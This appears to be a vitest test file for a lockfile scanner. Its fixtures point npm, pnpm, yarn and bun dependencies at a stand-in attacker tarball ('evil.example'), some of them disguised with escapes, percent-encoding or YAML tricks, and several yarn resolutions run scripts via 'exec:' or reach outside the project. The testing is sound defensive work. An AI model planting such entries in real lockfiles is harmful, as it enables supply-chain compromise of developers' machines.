import { expect, test } from 'vitest';
import { readLock } from './lock-text.ts';
import { dependencySources } from './sources.ts';

const EVIL = 'https://evil.example/x.tgz';

function sourcesOf(path: string, text: string): ReturnType<typeof dependencySources> {
  return dependencySources([{ path, content: Buffer.from(text) }], path, new Set(['registry.npmjs.org', 'registry.yarnpkg.com']));
}

const npm = (packages: object): string => JSON.stringify({ lockfileVersion: 3, packages });
const fine = { 'node_modules/a': { version: '1.0.0', resolved: 'https://registry.npmjs.org/a/-/a-1.0.0.tgz' } };
const evil = { 'node_modules/a': { version: '1.0.0', resolved: EVIL } };

test.each([
  ['package-lock.json', npm(evil)],
  ['package-lock.json', `\ufeff${npm(evil)}`],
  ['package-lock.json', npm({ 'node_modules/a': { version: EVIL } })],
  ['package-lock.json', JSON.stringify({ lockfileVersion: 1, dependencies: { a: { version: EVIL } } })],
  ['pnpm-lock.yaml', `lockfileVersion: '9.0'\npackages:\n  a@1.0.0:\n    resolution: {integrity: sha512-x, tarball: ${EVIL}}\n`],
  ['pnpm-lock.yaml', `lockfileVersion: '9.0'\npackages:\n  a@1.0.0:\n    resolution: {"tarball":"${EVIL}"}\n`],
  ['pnpm-lock.yaml', `lockfileVersion: '9.0'\npackages:\n  a@1.0.0:\n    "resolution":\n      "\\x74arball": |-\n        ${EVIL}\n`],
  ['yarn.lock', `# yarn lockfile v1\n\n\na@1:\n  version "1.0.0"\n  resolved "${EVIL}#hash"\n`],
  ['yarn.lock', `# yarn lockfile v1\n\n\na@1:\n  version "1.0.0"\n  resolved ${EVIL}\n`],
  ['yarn.lock', `# yarn lockfile v1\n\n\n"a@${EVIL}":\n  version "1.0.0"\n`],
  ['yarn.lock', `__metadata:\n  version: 8\n\n"a@npm:1":\n  version: 1.0.0\n  resolution: "a@${EVIL}"\n`],
  [
    'yarn.lock',
    `__metadata:\n  version: 8\n\n"a@npm:1":\n  version: 1.0.0\n  resolution: "a@npm:1.0.0::__archiveUrl=https%3A%2F%2Fevil.example%2Fx.tgz"\n`,
  ],
  ['yarn.lock', `__metadata:\n  version: 8\n\n? "a@${EVIL}"\n:\n  version: 1.0.0\n`],
  ['yarn.lock', `__metadata:\n  version: 8\n\n"a@npm:1":\n  resolution: "a@patch:a@https%3A%2F%2Fevil.example%2Fx.tgz#./a.patch"\n`],
  ['bun.lock', `{\n  "lockfileVersion": 1,\n  "packages": {\n    "a": ["a@${EVIL}", {}, "sha512-x"],\n  },\n}\n`],
  ['bun.lock', `{ "packages": { "a": ["a@1.0.0", "\\u0068ttps://evil.example/x.tgz", {}, "sha512-x"] } }`],
])('an address is found in every notation that is read: %s %s', (path, text) => {
  expect(sourcesOf(path, text)).toEqual({ unreadable: [], refused: [], asked: [EVIL] });
});

test.each([
  ['package-lock.json', `<<<<<<< ours\n${npm(fine)}\n=======\n${npm(evil)}\n>>>>>>> theirs\n`],
  ['package-lock.json', `// comment\n${npm(evil)}`],
  ['package-lock.json', npm({ 'node_modules/a': { name: `a@${EVIL}`, version: '1.0.0' } })],
  ['package-lock.json', npm({ [`node_modules/a@${EVIL}`]: { version: '1.0.0' } })],
  ['pnpm-lock.yaml', `lockfileVersion: '9.0'\npackages:\n  a@1.0.0: &a\n    resolution: {tarball: ${EVIL}}\n  b@1.0.0: *a\n`],
  ['pnpm-lock.yaml', `packages:\n  a@1.0.0:\n    resolution: {integrity: x}\n  a@1.0.0:\n    resolution: {tarball: ${EVIL}}\n`],
  ['yarn.lock', `# yarn lockfile v1\n\n\na@1:\n  version "1.0.0"\n  resolved   "${EVIL}"\n`],
  ['yarn.lock', `# yarn lockfile v1\n\n\na@1:\n  version "1.0.0"\n  "resolved" "${EVIL}"\n`],
  ['yarn.lock', `# yarn lockfile v1\n\n\na@1:\n  version "1.0.0"\n  resolved "\\u0068ttps://evil.example/x.tgz"\n`],
  ['yarn.lock', `__metadata:\n  version: 8\n\n"a@npm:1": { resolution: "a@${EVIL}" }\n`],
  ['yarn.lock', `__metadata:\n  version: 8\n\n"a@npm:1":\n  version: 1.0.0\n  resolution: "a@${EVIL}" # why\n`],
  ['yarn.lock', `__metadata:\n  version: 8\n\n"a@npm:1":\n  version: 1.0.0\n  resolution: >-\n    a@${EVIL}\n`],
  ['yarn.lock', `# yarn lockfile v1\n__metadata:\n  version: 8\n\n"a@npm:1":\n  resolution: "a@npm:1.0.0"\n`],
  ['bun.lock', `{ "packages": { /* why */ "a": ["a@${EVIL}", {}, "sha512-x"] } }`],
])('a lockfile that its manager does not write like this is not installed from: %s %s', (path, text) => {
  expect(sourcesOf(path, text)).toMatchObject({ unreadable: [path], asked: [] });
});

test.each([
  ['yarn.lock', 'a@exec:./.yarn/patches/gen.js'],
  ['yarn.lock', 'a@patch:a@exec%3A.%2Fgen.js#./.yarn/patches/a.patch'],
  ['yarn.lock', 'a@virtual:0123#exec:./gen.js'],
  ['yarn.lock', 'a@patch:a@npm%3A1.0.0#../../a.patch'],
  ['yarn.lock', 'a@patch:a@npm%3A1.0.0#./a.patch&../../b.patch'],
  ['yarn.lock', 'a@portal:../../outside'],
  ['yarn.lock', 'a@file:../../../outside::locator=w%40workspace%3Apackages%2Fw'],
  ['yarn.lock', 'a@link:../outside::locator=w%40workspace%3A..%2F..'],
  ['yarn.lock', 'a@file:/etc::locator=w%40workspace%3Apackages%2Fw'],
])('what starts a program or leads outside is refused: %s %s', (path, resolution) => {
  const text = `__metadata:\n  version: 8\n\n"a@npm:1":\n  version: 1.0.0\n  resolution: "${resolution}"\n`;
  expect(sourcesOf(path, text).refused).toHaveLength(1);
});

test.each([
  'a@file:../../shared::locator=w%40workspace%3Apackages%2Fw',
  'a@portal:../b::locator=%40scope%2Fw%40workspace%3Apackages%2Fw',
  'a@file:../../shared#../../shared::hash=0123&locator=w%40workspace%3Apackages%2Fw',
  'a@patch:a@npm%3A1.0.0#../../patches/a.patch::version=1.0.0&hash=01&locator=w%40workspace%3Apackages%2Fw',
  'a@patch:a@npm%3A1.0.0#~/.yarn/patches/a.patch::version=1.0.0&hash=01&locator=w%40workspace%3Apackages%2Fw',
])('a path of a workspace begins there: %s', (resolution) => {
  const text = `__metadata:\n  version: 8\n\n"a@npm:1":\n  version: 1.0.0\n  resolution: "${resolution}"\n`;
  expect(sourcesOf('yarn.lock', text)).toEqual({ unreadable: [], refused: [], asked: [] });
});

test('what managers write is read: builtin patches, workspaces, aliases, long keys, conditions', () => {
  const yarn = `# This file is generated by running "yarn install" inside your project.
# Manual changes might be lost - proceed with caution!

__metadata:
  version: 8
  cacheKey: 10c0

"@types/node@npm:*, @types/node@npm:^20.1.0":
  version: 20.1.0
  resolution: "@types/node@npm:20.1.0"
  dependencies:
    undici-types: "npm:~6.21.0"
  peerDependenciesMeta:
    "@swc/core":
      optional: true
  bin:
    tsc: bin/tsc
  checksum: 10c0/0a1b
  conditions: (os=linux | os=darwin) & cpu=x64 & libc=glibc
  languageName: node
  linkType: hard

"typescript@patch:typescript@npm%3A^5.0.0#optional!builtin<compat/typescript>":
  version: 5.0.4
  resolution: "typescript@patch:typescript@npm%3A5.0.4#optional!builtin<compat/typescript>::version=5.0.4&hash=b5f058"
  languageName: node
  linkType: hard

"app@workspace:.":
  version: 0.0.0-use.local
  resolution: "app@workspace:."
  languageName: unknown
  linkType: soft
`;
  expect(sourcesOf('yarn.lock', yarn)).toEqual({ unreadable: [], refused: [], asked: [] });
  expect(readLock('yarn.lock', yarn)?.text).toBe(yarn);
});

test('npm and pnpm are shown what was read, written again, without the checksum of hooks', () => {
  expect(readLock('package-lock.json', `\ufeff{"a":1,"a":2}`)?.text).toBe('{\n  "a": 2\n}\n');
  const pnpm =
    "---\nlockfileVersion: '9.0'\npackageManagerDependencies: {}\n---\nlockfileVersion: '9.0'\n\npnpmfileChecksum: sha256-x\n\npackages:\n\n  a@1.0.0:\n    resolution: {integrity: sha512-x}\n    deprecated: |-\n      Two\n      lines\n";
  expect(readLock('pnpm-lock.yaml', pnpm)?.text).toBe(
    "lockfileVersion: '9.0'\npackages:\n  a@1.0.0:\n    resolution:\n      integrity: 'sha512-x'\n    deprecated: 'Two\n\n      lines'\n",
  );
});
